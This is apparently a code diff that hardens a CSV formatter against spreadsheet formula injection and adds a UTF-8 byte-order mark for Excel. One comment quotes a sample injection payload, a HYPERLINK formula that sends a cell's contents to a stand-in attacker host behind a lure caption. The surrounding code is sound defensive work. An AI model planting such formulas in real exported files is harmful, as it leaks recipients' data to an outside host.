@@ -42,10 +42,22 @@ export function formatRows<R>(
   return `${[line(header), ...table.map(line)].join('\n')}\n`;
 }
 
-function csvField(v: string | number): string {
-  const s = String(v);
-  return /[",\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
+/**
+ * One CSV cell. Text that a spreadsheet would run as a formula (starting with =, +, -, @, a tab
+ * or a carriage return: OWASP's "CSV injection" rule) gets a leading ' so it shows as typed:
+ * customer text such as `=HYPERLINK("http://evil.example/?"&A1,"点我领红包")` reaches these files.
+ * Numbers stay numbers.
+ */
+export function csvField(v: string | number): string {
+  const s = typeof v === 'number' ? String(v) : /^[=+\-@\t\r]/.test(v) ? `'${v}` : v;
+  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
 }
+
+/**
+ * Written before CSV: Excel on Chinese Windows reads a CSV without it in the local code page
+ * (GBK), showing UTF-8 Chinese as 乱码. `--no-bom` leaves it out for tools that mind it.
+ */
+export const UTF8_BOM = '\uFEFF';
 
 /**
  * East Asian wide and full-width characters and emoji (Unicode's "W" and "F"): two columns in a
